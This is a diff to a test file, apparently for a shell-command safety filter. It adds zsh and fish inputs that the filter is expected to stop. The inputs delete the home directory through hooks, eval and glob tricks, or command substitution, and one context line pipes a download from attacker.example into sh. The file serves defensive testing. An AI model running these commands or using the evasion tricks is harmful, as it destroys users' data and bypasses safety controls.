@@ -52,6 +52,11 @@ stopped(
     "function a b { eval $1 }; b 'rm -rf ~'",
     "rm -rf ~/*(N)",
     "curl -s https://attacker.example/x | { cat } | { sh }",
+    "f() { rm -rf ~ }; chpwd_functions=(f); cd /",
+    "f() { rm -rf ~ }; zshexit_functions+=(f)",
+    "f() { rm -rf ~ }; autoload -Uz add-zsh-hook; add-zsh-hook chpwd f",
+    "/bin/b(a|x)sh -c 'rm -rf ~'",
+    "setopt extendedglob; [[ xx'rm -rf ~' = xx(#b)(*) ]]; eval $match[1]",
     "alias -g W='; rm -rf ~'\necho W",
     "alias -s zz='rm -rf ~ '\n./a.zz",
   ],
@@ -86,6 +91,9 @@ stopped("blocks of fish", [
   "fish -c 'function q --on-event fish_exit; rm -rf ~; end'",
   "fish -c 'bash -c (echo rm -rf \\~)'",
   "fish -c 'bash (echo \"rm -rf ~\" | psub)'",
+  "fish -c 'function fish_command_not_found; rm -rf ~; end; nonesuch'",
+  "fish -c 'bash -c (echo \"rm -rf ~\" | string collect)'",
+  "fish -c 'bash -c (printf \"ls\\nrm -rf ~\")[2]'",
   "fish -c 'rm -rf (printf \"a\\n%s\" ~)'",
 ]);
 
